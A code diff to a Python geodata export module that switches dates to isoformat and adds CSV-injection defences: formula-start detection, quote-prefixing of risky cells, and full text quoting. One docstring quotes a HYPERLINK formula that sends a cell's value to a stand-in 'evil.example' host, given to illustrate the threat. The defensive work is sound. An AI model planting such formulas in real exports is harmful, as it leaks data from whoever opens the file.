@@ -14,6 +14,7 @@ place) and keep its columns, so a row can be followed from the map to a file and
 
 from __future__ import annotations
 
+import csv
 import html
 import json
 import math
@@ -52,7 +53,10 @@ def _plain(value: Any) -> Any:
     if value is None:
         return None
     if isinstance(value, (pd.Timestamp, datetime, date)):
-        return None if pd.isna(value) else value.strftime("%Y-%m-%d")
+        if pd.isna(value):
+            return None
+        # isoformat, not strftime("%Y"): glibc writes the year 1 as "1", not "0001".
+        return (value.date() if isinstance(value, datetime) else value).isoformat()
     if isinstance(value, float) or hasattr(value, "dtype"):
         if pd.isna(value):
             return None
@@ -94,13 +98,44 @@ def to_geojson(df: pd.DataFrame) -> dict:
     return collection
 
 
-def to_csv(df: pd.DataFrame) -> str:
-    """The frame as CSV text: same columns, days as YYYY-MM-DD, ``\\n`` line ends."""
+#: A cell a spreadsheet would read as a formula: it begins with = + - @, or with a tab
+#: or carriage return (OWASP, "CSV Injection"), possibly after other white space.
+_FORMULA_START = re.compile(r"^(?:[\t\r]|\s*[=+\-@])")
+_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
+
+
+def spreadsheet_safe(value: Any) -> Any:
+    """``value`` with a ``'`` in front if a spreadsheet would run it as a formula.
+
+    Article text is untrusted: a line ``=HYPERLINK("http://evil.example/?d="&A2,"x")``
+    in an excerpt would become a live formula in Excel or LibreOffice. OWASP's advice is
+    to prefix such cells with a single quote, which spreadsheets show as text. Numbers
+    written as text ("-73.9") are left alone: they are not formulas.
+    """
+    if isinstance(value, str) and _FORMULA_START.match(value) and not _NUMBER.fullmatch(value):
+        return "'" + value
+    return value
+
+
+def to_csv(df: pd.DataFrame, *, for_spreadsheets: bool = True) -> str:
+    """The frame as CSV text: same columns, days as YYYY-MM-DD, ``\\n`` line ends.
+
+    For people (``for_spreadsheets``, the default: downloads and ``python -m geo``), text
+    cells that a spreadsheet would run as formulas are quoted (:func:`spreadsheet_safe`).
+    ``for_spreadsheets=False`` keeps every cell as it is, for files this program reads
+    back itself (``geo.timeline.write_events_table``).
+    """
     out = df.copy()
     for name in DATE_COLUMNS:
         if name in out:
             out[name] = [_plain(v) for v in out[name]]
-    return out.to_csv(index=False, lineterminator="\n")
+    if for_spreadsheets:
+        for name in out.columns:
+            if out[name].dtype == object or pd.api.types.is_string_dtype(out[name]):
+                out[name] = [spreadsheet_safe(v) for v in out[name]]
+    # Text quoted (OWASP's advice too): a bare carriage return in an excerpt would
+    # otherwise end the row for csv readers, as the "\n" line end does not cover it.
+    return out.to_csv(index=False, lineterminator="\n", quoting=csv.QUOTE_NONNUMERIC)
 
 
 def _xml_text(value: Any) -> str:
